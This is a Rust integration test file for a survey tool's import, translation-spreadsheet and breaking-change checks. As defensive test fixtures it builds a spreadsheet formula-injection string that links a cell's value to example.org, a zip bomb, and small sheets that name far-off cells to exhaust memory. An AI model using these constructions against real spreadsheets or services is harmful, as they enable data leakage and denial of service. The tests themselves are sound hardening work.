//! `speaksafe import`, `speaksafe translations` and `speaksafe check --against`, run as the built
//! binary on files the tests make: SurveyJS JSON from bench/compare's converter, XLSForms
//! written here with rust_xlsxwriter, spreadsheets edited as a translator would.

use serde_json::{json, Value};
use speaksafe_core::kind::Kind;
use speaksafe_core::{read, Question, Survey, Text};
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::atomic::{AtomicUsize, Ordering};

const ROOT: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/..");

fn scratch(name: &str) -> PathBuf {
    static NEXT: AtomicUsize = AtomicUsize::new(0);
    let dir = Path::new(env!("CARGO_TARGET_TMPDIR")).join(format!(
        "import-{}-{}",
        std::process::id(),
        NEXT.fetch_add(1, Ordering::Relaxed)
    ));
    std::fs::create_dir_all(&dir).unwrap();
    dir.join(name)
}

/// Runs the CLI: exit code, stdout, stderr.
fn speaksafe(args: &[&str]) -> (i32, String, String) {
    let out = Command::new(env!("CARGO_BIN_EXE_speaksafe")).args(args).output().expect("the binary runs");
    let (stdout, stderr) =
        (String::from_utf8_lossy(&out.stdout).into_owned(), String::from_utf8_lossy(&out.stderr).into_owned());
    assert!(!stdout.contains("panicked") && !stderr.contains("panicked"), "{stdout}\n{stderr}");
    (out.status.code().expect("not killed"), stdout, stderr)
}

/// A survey through bench/compare's converter into SurveyJS JSON (`node`, as the benchmark runs it).
fn to_surveyjs(definition_js: &str) -> String {
    let script = format!(
        "import {{ convert }} from '{ROOT}/bench/compare/convert.mjs';
         import {{ definition }} from '{ROOT}/bench/compare/generate.mjs';
         import fs from 'node:fs';
         const survey = {definition_js};
         process.stdout.write(JSON.stringify(convert(survey)));"
    );
    let out = Command::new("node").args(["--input-type=module", "-e", &script]).output().expect("node runs");
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    String::from_utf8(out.stdout).unwrap()
}

/// A text in each of the survey's languages.
fn texts(text: &Text, survey: &Survey) -> Value {
    let first = &survey.languages[0].code;
    Value::Object(survey.languages.iter().map(|l| (l.code.clone(), json!(text.get(&l.code, first)))).collect())
}

/// A question as data, for comparing: what SurveyJS can carry. (`sensitive` it cannot.)
fn as_data(q: &Question, survey: &Survey) -> Value {
    let list = |choices: &[speaksafe_core::Choice]| -> Value {
        choices.iter().map(|c| json!([c.value, texts(&c.text, survey), c.exclusive])).collect()
    };
    let shape = q.kind.shape();
    let (rows, columns) = match shape {
        speaksafe_core::Shape::Rows { rows, columns } => (list(rows), list(columns)),
        _ => (Value::Null, Value::Null),
    };
    let own = match &q.kind {
        Kind::Number(n) => json!({ "min": n.min, "max": n.max, "integer": n.integer }),
        Kind::Scale(s) => json!({
            "min_label": s.min_label.as_ref().map(|t| texts(t, survey)),
            "max_label": s.max_label.as_ref().map(|t| texts(t, survey)),
        }),
        Kind::Info(i) => json!({ "title": i.title.as_ref().map(|t| texts(t, survey)) }),
        _ => Value::Null,
    };
    json!({
        "kind": q.kind.name(),
        "text": texts(&q.text, survey),
        "hint": q.hint.as_ref().map(|t| texts(t, survey)),
        "required": q.required,
        "required_if": q.required_if.as_ref().map(|c| c.source().to_string()),
        "visible_if": q.visible_if.as_ref().map(|c| c.source().to_string()),
        "options": list(shape.options()),
        "rows": rows,
        "columns": columns,
        "own": own,
        "rules": q.rules.len(),
    })
}

/// Brings a SurveyJS file in and compares it with the survey it was made from: every question,
/// page and condition the same, but for what SurveyJS cannot carry, which is checked to be
/// exactly that: content notes (info blocks at the top of their page) and `sensitive`.
fn round_trip(original: &Survey, surveyjs: &str) {
    let input = scratch("surveyjs.json");
    std::fs::write(&input, surveyjs).unwrap();
    let output = input.with_file_name("back.json");
    let (code, stdout, stderr) = speaksafe(&["import", input.to_str().unwrap(), "--out", output.to_str().unwrap()]);
    assert_eq!(code, 0, "{stdout}{stderr}");
    assert!(stdout.contains("SurveyJS JSON brought in"), "{stdout}");
    let back = read(&std::fs::read_to_string(&output).unwrap()).expect("the import passes check").survey;
    assert_eq!(speaksafe(&["check", output.to_str().unwrap()]).0, 0);
    assert_eq!(back.languages, original.languages);
    assert_eq!(back.pages.len(), original.pages.len());
    for (a, b) in original.pages.iter().zip(&back.pages) {
        assert_eq!((&a.id, texts(&a.title, original)), (&b.id, texts(&b.title, &back)));
        assert_eq!(
            a.visible_if.as_ref().map(|c| c.source()),
            b.visible_if.as_ref().map(|c| c.source()),
            "page {}",
            a.id
        );
        assert_eq!(
            a.intro.as_ref().map(|t| texts(t, original)),
            b.intro.as_ref().map(|t| texts(t, &back)),
            "page {}",
            a.id
        );
        // A content note arrives as the information block SurveyJS kept it as, first on its page.
        let mut questions = b.questions.iter().peekable();
        if let Some(note) = &a.content_note {
            let block = questions.next().expect("the note's block");
            assert_eq!(
                (block.id.clone(), texts(&block.text, &back)),
                (format!("note_{}", a.id), texts(note, original))
            );
        }
        let rest: Vec<&Question> = questions.collect();
        assert_eq!(rest.len(), a.questions.len(), "page {}", a.id);
        for (qa, qb) in a.questions.iter().zip(rest) {
            assert_eq!(qa.id, qb.id);
            assert_eq!(as_data(qa, original), as_data(qb, &back), "question {}", qa.id);
        }
    }
}

#[test]
fn surveyjs_from_the_converter_comes_back_as_the_same_survey() {
    for name in ["survivor-consultation", "youth-voice"] {
        let path = format!("{ROOT}/surveys/{name}.json");
        let original = read(&std::fs::read_to_string(&path).unwrap()).unwrap().survey;
        round_trip(&original, &to_surveyjs(&format!("JSON.parse(fs.readFileSync('{path}', 'utf8'))")));
    }
}

#[test]
fn the_1000_question_survey_comes_back_as_the_same_survey() {
    let script = format!(
        "import {{ definition }} from '{ROOT}/bench/compare/generate.mjs'; process.stdout.write(JSON.stringify(definition(50)));"
    );
    let out = Command::new("node").args(["--input-type=module", "-e", &script]).output().unwrap();
    let original = read(std::str::from_utf8(&out.stdout).unwrap()).unwrap().survey;
    assert_eq!(original.question_count(), 1000);
    round_trip(&original, &to_surveyjs("definition(50)"));
}

#[test]
fn surveyjs_features_speaksafe_lacks_are_dropped_and_named() {
    let survey = json!({
        "title": { "default": "Travel", "pl": "Podróże" },
        "cookieName": "done-it",
        "navigateToUrl": "https://example.com/thanks",
        "completedHtml": "<h3>Thanks</h3><p>All <b>done</b>.</p>",
        "pages": [{ "name": "Page One", "elements": [
            { "type": "radiogroup", "name": "Travel Mode", "title": "How do you travel?",
              "choices": ["On foot", { "value": "bus", "text": { "default": "Bus", "pl": "Autobus" } }], "showOtherItem": true },
            { "type": "checkbox", "name": "worries", "title": "Worries", "choices": ["Dark", "Crowds"],
              "showNoneItem": true, "showOtherItem": true, "otherText": "Something else",
              "visibleIf": "{Travel Mode} = 'On foot'" },
            { "type": "boolean", "name": "ok", "title": "OK?", "labelTrue": "Sure" },
            { "type": "text", "name": "why", "title": "Why?", "visibleIf": "{ok} = false and iif({worries} contains 'Dark', 1, 0) = 1" },
            { "type": "text", "name": "age", "inputType": "number", "min": 11, "max": 16, "title": "Age",
              "validators": [{ "type": "numeric", "minValue": 11, "text": "Too young" }, { "type": "email" }] },
            { "type": "comment", "name": "more", "title": "More", "maxLength": 300 },
            { "type": "rating", "name": "safe", "title": "Safe?", "rateMin": 1, "rateMax": 5, "minRateDescription": "No" },
            { "type": "matrix", "name": "grid", "title": "Grid", "rows": ["School", "Bus stop"], "columns": ["Safe", "Unsafe"] },
            { "type": "file", "name": "photo", "title": "A photo" },
            { "type": "signaturepad", "name": "sign", "title": "Sign" },
            { "type": "dropdown", "name": "borough", "title": "Borough", "choicesByUrl": { "url": "https://example.com/b" },
              "choices": ["Newham"] },
            { "type": "paneldynamic", "name": "people", "title": "People" },
            { "type": "panel", "name": "extra", "title": "Extra questions", "visibleIf": "{ok} = true",
              "elements": [{ "type": "html", "name": "note", "html": "<p>Nearly <i>done</i></p>" },
                           { "type": "tagbox", "name": "tags", "title": "Tags", "choices": ["a"] }] }
        ]}]
    });
    let input = scratch("features.json");
    std::fs::write(&input, survey.to_string()).unwrap();
    let output = input.with_file_name("out.json");
    let (code, stdout, _) = speaksafe(&["import", input.to_str().unwrap(), "--out", output.to_str().unwrap()]);
    assert_eq!(code, 0, "{stdout}");
    for named in [
        "dropped cookieName:",
        "dropped navigateToUrl:",
        "dropped photo (pages[0].elements[8]): type \"file\":",
        "dropped sign (pages[0].elements[9]): type \"signaturepad\":",
        "dropped borough.choicesByUrl (pages[0].elements[10]):",
        "dropped people (pages[0].elements[11]): type \"paneldynamic\":",
        "dropped why (pages[0].elements[3]): its condition \"{ok} = false and iif(",
        "dropped age.validators (pages[0].elements[4]): the check \"email\" is not supported",
        "rewritten Travel Mode (pages[0].elements[0]): values made usable as names: \"On foot\" → on_foot",
        "rewritten extra (pages[0].elements[12]): a panel",
    ] {
        assert!(stdout.contains(named), "the report lacks {named:?}:\n{stdout}");
    }
    assert!(stdout.contains("iif"), "{stdout}");
    let written: Value = serde_json::from_str(&std::fs::read_to_string(&output).unwrap()).unwrap();
    let survey = read(&written.to_string()).unwrap().survey;
    let q = |id: &str| survey.question(id).unwrap_or_else(|| panic!("no {id}"));
    assert_eq!(survey.languages.iter().map(|l| l.code.as_str()).collect::<Vec<_>>(), ["en", "pl"]);
    assert_eq!(q("travel_mode").kind.name(), "single_choice");
    assert_eq!(
        q("travel_mode").kind.options().iter().map(|o| o.value.as_str()).collect::<Vec<_>>(),
        ["on_foot", "bus", "other"]
    );
    // showOtherItem is "Other, please say" (the option `other`, with its box), not a plain option.
    assert!(matches!(&q("travel_mode").kind, Kind::SingleChoice(c) if c.other.is_some()));
    // The condition follows the renames.
    assert_eq!(q("worries").visible_if.as_ref().unwrap().source(), "{travel_mode} = 'on_foot'");
    assert!(matches!(&q("worries").kind, Kind::MultipleChoice(m) if m.other.is_some()));
    assert!(q("worries").kind.options().iter().any(|o| o.value == "none" && o.exclusive));
    assert_eq!(q("ok").kind.name(), "yes_no");
    assert!(
        survey.question("why").is_none(),
        "a condition with a function cannot come across: hidden, not shown to all"
    );
    assert!(matches!(&q("age").kind, Kind::Number(n) if n.min == Some(11.0) && n.max == Some(16.0)));
    assert_eq!(q("age").rules.len(), 1);
    assert!(matches!(&q("more").kind, Kind::LongText(t) if t.max_length == 300));
    assert_eq!(q("safe").kind.options().len(), 5);
    assert_eq!(q("grid").kind.name(), "matrix");
    assert_eq!(q("tags").visible_if.as_ref().unwrap().source(), "{ok} = 'yes'", "the panel's condition, true as yes");
    assert_eq!(q("extra").kind.name(), "info");
    assert_eq!(q("note").text.get("en", "en"), "Nearly done");
    assert_eq!(survey.completion.get("en", "en"), "Thanks\n\nAll done.");
    for gone in ["photo", "sign", "borough", "people"] {
        assert!(survey.question(gone).is_none() || gone == "borough", "{gone}");
    }
}

/// The XLSForm row types that identify or locate a respondent: never brought in.
const PRIVATE: [&str; 17] = [
    "start",
    "end",
    "today",
    "deviceid",
    "subscriberid",
    "simserial",
    "phonenumber",
    "username",
    "email",
    "audit",
    "geopoint",
    "geotrace",
    "geoshape",
    "image",
    "audio",
    "video",
    "file",
];

/// One XLSForm, written here as a spreadsheet program would: every row type speaksafe brings in,
/// two languages, groups with `relevant`, constraints, and every field that would identify or
/// locate a respondent.
fn xlsform(path: &Path) {
    use rust_xlsxwriter::Workbook;
    let mut book = Workbook::new();
    let sheet = |book: &mut Workbook, name: &str, rows: &[&[&str]]| {
        let s = book.add_worksheet();
        s.set_name(name).unwrap();
        for (r, row) in rows.iter().enumerate() {
            for (c, cell) in row.iter().enumerate() {
                s.write_string(r as u32, c as u16, *cell).unwrap();
            }
        }
    };
    let privacy = PRIVATE;
    let mut survey: Vec<Vec<String>> = vec![[
        "type",
        "name",
        "label::English (en)",
        "label::Polski (pl)",
        "hint::English (en)",
        "relevant",
        "required",
        "constraint",
        "constraint_message::English (en)",
        "appearance",
        "choice_filter",
        "parameters",
        "calculation",
    ]
    .map(String::from)
    .to_vec()];
    let mut row = |cells: &[&str]| survey.push(cells.iter().map(|c| c.to_string()).collect());
    for p in privacy {
        row(&[p, p]);
    }
    row(&["calculate", "lookup", "", "", "", "", "", "", "", "", "", "", "pulldata('list', 'x', 'y', 'z')"]);
    row(&["begin group", "about", "About you", "O tobie", "", "", ""]);
    row(&[
        "integer",
        "age",
        "How old are you?",
        "Ile masz lat?",
        "In years",
        "",
        "yes",
        ". >= 11 and . <= 16",
        "Between 11 and 16",
    ]);
    row(&[
        "select_one travel",
        "travel",
        "How do you get to school?",
        "Jak dojeżdżasz do szkoły?",
        "",
        "",
        "",
        "",
        "",
        "",
        "",
        "",
        "",
    ]);
    row(&["select_one travel", "travel_dropdown", "Pick one", "Wybierz", "", "", "", "", "", "minimal"]);
    row(&[
        "select_multiple worries or_other",
        "worries",
        "What worries you?",
        "Co cię martwi?",
        "",
        "selected(${travel}, 'bus')",
    ]);
    row(&[
        "text",
        "area",
        "Where do you live?",
        "Gdzie mieszkasz?",
        "",
        "",
        "",
        "regex(., '^[A-Z]{1,2}[0-9]')",
        "A postcode area",
    ]);
    row(&["end group", "", ""]);
    row(&["begin group", "more", "More", "Więcej", "", "${age} > 12 and not(selected(${worries}, 'dark'))"]);
    row(&["text", "story", "Tell us", "Opowiedz", "", "", "", "", "", "multiline"]);
    row(&["decimal", "hours", "Hours online?", "Godziny?", "", "${travel} != 'walk'"]);
    row(&["range", "safe", "How safe?", "Jak bezpiecznie?", "", "", "", "", "", "", "", "start=1 end=5 step=1"]);
    row(&["note", "thanks", "Thank you", "Dziękujemy"]);
    row(&["select_one travel", "filtered", "Filtered", "Filtrowane", "", "", "", "", "", "", "${travel} = 'walk'"]);
    row(&["date", "when", "When?", "Kiedy?"]);
    row(&["end group"]);
    row(&["begin repeat", "kids", "Each child"]);
    row(&["text", "kid_name", "Name"]);
    row(&["end repeat"]);
    let survey: Vec<Vec<&str>> = survey.iter().map(|r| r.iter().map(String::as_str).collect()).collect();
    let survey: Vec<&[&str]> = survey.iter().map(Vec::as_slice).collect();
    sheet(&mut book, "survey", &survey);
    sheet(
        &mut book,
        "choices",
        &[
            &["list_name", "name", "label::English (en)", "label::Polski (pl)"],
            &["travel", "walk", "Walk", "Pieszo"],
            &["travel", "bus", "Bus", "Autobus"],
            &["worries", "dark", "The dark", "Ciemność"],
            &["worries", "crowds", "Crowds", "Tłumy"],
        ],
    );
    sheet(
        &mut book,
        "settings",
        &[&["form_title", "form_id", "default_language"], &["School travel", "school-travel", "English (en)"]],
    );
    book.save(path).unwrap();
}

#[test]
fn an_xlsform_comes_in_with_groups_as_pages_and_every_privacy_field_dropped() {
    let input = scratch("form.xlsx");
    xlsform(&input);
    let output = input.with_file_name("form.json");
    let (code, stdout, stderr) = speaksafe(&["import", input.to_str().unwrap(), "--out", output.to_str().unwrap()]);
    assert_eq!(code, 0, "{stdout}{stderr}");
    assert!(stdout.contains("XLSForm brought in"), "{stdout}");
    for field in PRIVATE {
        let line = stdout.lines().find(|l| l.trim_start().starts_with(&format!("dropped {field} (survey row ")));
        assert!(
            line.is_some_and(|l| l.contains(&format!("type \"{field}\": speaksafe never collects"))),
            "{field} not reported:\n{stdout}"
        );
    }
    for named in [
        "dropped lookup (survey row ",
        "dropped kids (survey row ",
        "dropped filtered.choice_filter (survey row ",
        "rewritten when (survey row ",
    ] {
        assert!(stdout.contains(named), "the report lacks {named:?}:\n{stdout}");
    }
    assert_eq!(speaksafe(&["check", output.to_str().unwrap()]).0, 0);
    let survey = read(&std::fs::read_to_string(&output).unwrap()).unwrap().survey;
    assert_eq!(survey.id, "school-travel");
    assert_eq!(survey.title.get("en", "en"), "School travel");
    assert_eq!(survey.languages.iter().map(|l| l.code.as_str()).collect::<Vec<_>>(), ["en", "pl"]);
    assert_eq!(survey.pages.iter().map(|p| p.id.as_str()).collect::<Vec<_>>(), ["about", "more"]);
    assert_eq!(survey.pages[1].visible_if.as_ref().unwrap().source(), "{age} > 12 and not ({worries} contains 'dark')");
    let q = |id: &str| survey.question(id).unwrap_or_else(|| panic!("no {id}"));
    assert_eq!(q("age").text.get("pl", "en"), "Ile masz lat?");
    assert!(q("age").required);
    assert!(matches!(&q("age").kind, Kind::Number(n) if n.integer));
    assert_eq!(q("age").rules.len(), 1, "the constraint is a range with its message");
    assert_eq!(q("travel").kind.name(), "single_choice");
    assert_eq!(q("travel_dropdown").kind.name(), "dropdown");
    assert!(matches!(&q("worries").kind, Kind::MultipleChoice(m) if m.other.is_some()));
    assert_eq!(q("worries").visible_if.as_ref().unwrap().source(), "{travel} = 'bus'");
    assert_eq!(q("area").rules.len(), 1, "regex(.) is a pattern rule");
    assert_eq!(q("story").kind.name(), "long_text");
    assert_eq!(q("hours").kind.name(), "number");
    assert_eq!(q("safe").kind.name(), "scale");
    assert_eq!(q("thanks").kind.name(), "info");
    assert_eq!(
        (q("when").kind.name(), q("when").hint.as_ref().map(|h| h.get("en", "en"))),
        ("short_text", Some("A date, such as 31 December 2024"))
    );
    for gone in ["deviceid", "phonenumber", "geopoint", "kid_name", "lookup"] {
        assert!(survey.question(gone).is_none(), "{gone} was brought in");
    }
}

#[test]
fn what_is_not_a_survey_is_refused_with_a_reason_and_exit_1() {
    let cases: Vec<(&str, Vec<u8>, &str)> = vec![
        ("notes.txt", b"just some words".to_vec(), "neither SurveyJS JSON nor an XLSForm"),
        ("broken.json", b"{ \"pages\": [ ".to_vec(), "not valid JSON"),
        ("empty.json", b"{ \"title\": \"x\" }".to_vec(), "no \"pages\""),
        ("fake.xlsx", b"PK\x03\x04 not really a zip".to_vec(), "zip"),
    ];
    for (name, bytes, says) in cases {
        let input = scratch(name);
        std::fs::write(&input, bytes).unwrap();
        let output = input.with_file_name("out.json");
        let (code, _, stderr) = speaksafe(&["import", input.to_str().unwrap(), "--out", output.to_str().unwrap()]);
        assert_eq!(code, 1, "{name}");
        assert!(stderr.contains(says), "{name}: {stderr}");
        assert!(!output.exists(), "{name}: nothing is written");
    }
    // A zip that unpacks to far more than its size.
    let bomb = scratch("bomb.xlsx");
    {
        use std::io::Write;
        let mut zip = zip::ZipWriter::new(std::fs::File::create(&bomb).unwrap());
        let options = zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Deflated);
        zip.start_file("xl/worksheets/sheet1.xml", options).unwrap();
        let zeros = vec![0u8; 1 << 20];
        for _ in 0..80 {
            zip.write_all(&zeros).unwrap();
        }
        zip.finish().unwrap();
    }
    assert!(std::fs::metadata(&bomb).unwrap().len() < 1 << 20);
    let (code, _, stderr) = speaksafe(&["import", bomb.to_str().unwrap(), "--out", "/dev/null"]);
    assert_eq!(code, 1);
    assert!(stderr.contains("zip bomb"), "{stderr}");
    // Too large to read at all.
    let big = scratch("big.json");
    std::fs::write(&big, vec![b' '; 11 * 1024 * 1024]).unwrap();
    let (code, _, stderr) = speaksafe(&["import", big.to_str().unwrap(), "--out", "/dev/null", "--from", "surveyjs"]);
    assert_eq!(code, 1);
    assert!(stderr.contains("the most speaksafe brings in"), "{stderr}");
}

#[test]
fn a_small_sheet_naming_a_far_cell_is_refused_within_2_gb_by_import_and_translations() {
    // The review's sheets, a few kilobytes each: laid out as a grid, the first asked for 512 GiB
    // and the second took 16-21 GB. Run as the review ran them, with 2 GB of address space.
    for (row, column, cell) in [(1_048_575, 16_383, "XFD1048576"), (999_999, 701, "ZZ1000000")] {
        let sheet = scratch("far.xlsx");
        let mut book = rust_xlsxwriter::Workbook::new();
        let s = book.add_worksheet();
        s.set_name("survey").unwrap();
        s.write_string(0, 0, "path").unwrap();
        s.write_string(0, 1, "text (en)").unwrap();
        s.write_string(0, 2, "translation (pl)").unwrap();
        s.write_string(row, column, "x").unwrap();
        book.save(&sheet).unwrap();
        let survey = format!("{ROOT}/surveys/youth-voice.json");
        let out = sheet.with_file_name("out.json");
        let (sheet, out) = (sheet.to_str().unwrap(), out.to_str().unwrap());
        for args in [
            vec!["import", sheet, "--out", out],
            vec!["translations", "import", &survey, sheet, "--lang", "ar", "--out", out],
        ] {
            let run = Command::new("prlimit")
                .args(["--as=2147483648", "--", env!("CARGO_BIN_EXE_speaksafe")])
                .args(&args)
                .output()
                .expect("prlimit runs");
            let stderr = String::from_utf8_lossy(&run.stderr);
            assert_eq!(run.status.code(), Some(1), "{args:?}: {stderr}");
            for words in [cell, "20000 rows and 300 columns"] {
                assert!(stderr.contains(words), "{args:?}: {stderr}");
            }
            assert!(!stderr.contains("panicked") && !Path::new(out).exists(), "{args:?}: {stderr}");
        }
    }
}

#[test]
fn translations_go_out_to_a_spreadsheet_and_come_back_checked() {
    // A survey in English and Polish, Polish missing.
    let original = format!("{ROOT}/surveys/survivor-consultation.json");
    let mut definition: Value = serde_json::from_str(&std::fs::read_to_string(&original).unwrap()).unwrap();
    definition["languages"] = json!(["en", "pl"]);
    // Text that a spreadsheet would run as a formula, as a third party's file may bring it.
    let formula = r#"=HYPERLINK("https://example.org/help?x="&A1,"Click for help")"#;
    definition["pages"][0]["questions"][0]["text"] = json!(formula);
    let survey = scratch("survey.json");
    std::fs::write(&survey, definition.to_string()).unwrap();
    let (code, stdout, stderr) = speaksafe(&["check", survey.to_str().unwrap()]);
    assert_eq!(code, 0, "{stdout}{stderr}");

    for format in ["csv", "xlsx"] {
        let sheet = survey.with_file_name(format!("pl.{format}"));
        let (code, stdout, _) = speaksafe(&[
            "translations",
            "export",
            survey.to_str().unwrap(),
            "--lang",
            "pl",
            "--out",
            sheet.to_str().unwrap(),
        ]);
        assert_eq!(code, 0);
        assert!(stdout.contains("still to translate into pl"), "{stdout}");
        if format == "csv" {
            let text = std::fs::read_to_string(&sheet).unwrap();
            assert!(text.contains(&format!("\"'{}\"", formula.replace('"', "\"\""))), "{text}");
            // No field starts with '=', quoted or not.
            for line in text.lines() {
                assert!(!line.starts_with(['=', '"']) && !line.contains(",=") && !line.contains(",\"="), "{line}");
            }
        }
        // The translator's edits: every row translated, one row's English changed meanwhile (stale),
        // one translation without its placeholder, one row for a place that is not there.
        let mut rows = speaksafe_core::translations::read(&std::fs::read(&sheet).unwrap()).unwrap();
        assert!(rows.len() > 100);
        for row in &mut rows {
            row.translation = format!("PL {}", row.source);
        }
        rows[0].source.push_str(" (changed)");
        rows[1].translation = "Zostało ci {x}".into();
        rows[1].source = rows[1].source.clone();
        let mut edited = rows.clone();
        edited.push(speaksafe_core::translations::Row {
            path: "pages[99].title".into(),
            source: "x".into(),
            translation: "y".into(),
            ..Default::default()
        });
        let bytes = if format == "csv" {
            speaksafe_core::translations::to_csv(&definition, "pl", &edited).into_bytes()
        } else {
            speaksafe_core::translations::to_xlsx(&definition, "pl", &edited).unwrap()
        };
        std::fs::write(&sheet, bytes).unwrap();
        let out = survey.with_file_name(format!("translated-{format}.json"));
        let (code, stdout, stderr) = speaksafe(&[
            "translations",
            "import",
            survey.to_str().unwrap(),
            sheet.to_str().unwrap(),
            "--out",
            out.to_str().unwrap(),
        ]);
        assert_eq!(code, 0, "{stdout}{stderr}");
        assert!(stdout.contains(&format!("{} translations into pl put in", rows.len() - 2)), "{stdout}");
        assert!(stdout.contains(&format!("stale, not applied: {}", rows[0].path)), "{stdout}");
        assert!(stdout.contains(&format!("not applied: {} (the translation must keep", rows[1].path)), "{stdout}");
        assert!(stdout.contains("not applied: pages[99].title (the survey has no text there)"), "{stdout}");
        let (code, stdout, _) = speaksafe(&["check", out.to_str().unwrap()]);
        assert_eq!(code, 0, "{stdout}");
        let translated = read(&std::fs::read_to_string(&out).unwrap()).unwrap().survey;
        assert_eq!(translated.title.get("pl", "en"), format!("PL {}", translated.title.get("en", "en")));
        let first = &translated.pages[0].questions[0].text;
        assert_eq!((first.get("en", "en"), first.get("pl", "en")), (formula, format!("PL {formula}").as_str()));
    }
    // A language the survey does not offer.
    let (code, _, stderr) =
        speaksafe(&["translations", "export", survey.to_str().unwrap(), "--lang", "de", "--out", "/dev/null"]);
    assert_eq!(code, 1);
    assert!(stderr.contains("not offered in \"de\""), "{stderr}");
}

#[test]
fn check_against_the_published_survey_warns_of_every_breaking_change() {
    let published = format!("{ROOT}/surveys/youth-voice.json");
    let mut new: Value = serde_json::from_str(&std::fs::read_to_string(&published).unwrap()).unwrap();
    let questions = |new: &mut Value, page: usize| new["pages"][page]["questions"].as_array_mut().unwrap().clone();
    // travel: "walk" renamed "on_foot"; "bike" removed.
    let mut page1 = questions(&mut new, 1);
    for q in &mut page1 {
        if q["id"] == "travel" {
            let options = q["options"].as_array_mut().unwrap();
            options[0]["value"] = json!("on_foot");
            options.retain(|o| o["value"] != "bike");
        }
        if q["id"] == "feel_safe" {
            q["rows"].as_array_mut().unwrap().retain(|r| r["value"] != "online");
        }
        if q["id"] == "safe_overall" {
            q["text"] = json!({ "en": "Which borough do you live in?", "ar": "في أي حي تعيش؟" });
        }
    }
    new["pages"][1]["questions"] = Value::Array(page1);
    // age: a number no longer; gender removed.
    let mut page0 = questions(&mut new, 0);
    page0.retain(|q| q["id"] != "gender");
    for q in &mut page0 {
        if q["id"] == "age" {
            *q = json!({ "id": "age", "kind": "short_text", "text": { "en": "How old are you?", "ar": "كم عمرك؟" } });
        }
    }
    new["pages"][0]["questions"] = Value::Array(page0);
    let path = scratch("new.json");
    std::fs::write(&path, new.to_string()).unwrap();
    let (code, stdout, _) = speaksafe(&["check", path.to_str().unwrap(), "--against", &published]);
    assert_eq!(code, 0, "changes are warnings:\n{stdout}");
    for says in [
        "renamed `walk` → `on_foot`?",
        "option \"bike\" is removed",
        "row \"online\" is removed",
        "\"age\" was number and is now short_text",
        "question \"gender\" (published pages[0].questions[3]",
        "the id \"safe_overall\" now asks \"Which borough do you live in?\"",
    ] {
        assert!(stdout.contains(says), "check does not say {says:?}:\n{stdout}");
    }
    let (code, stdout, _) = speaksafe(&["check", path.to_str().unwrap(), "--against", &published, "--strict"]);
    assert_eq!(code, 1, "--strict makes them errors:\n{stdout}");
    assert!(stdout.contains("error: pages[1].questions[3].options: option \"walk\" is gone"), "{stdout}");
    // The published survey against itself: nothing.
    let (code, stdout, _) = speaksafe(&["check", &published, "--against", &published, "--strict"]);
    assert_eq!(code, 0, "{stdout}");
}
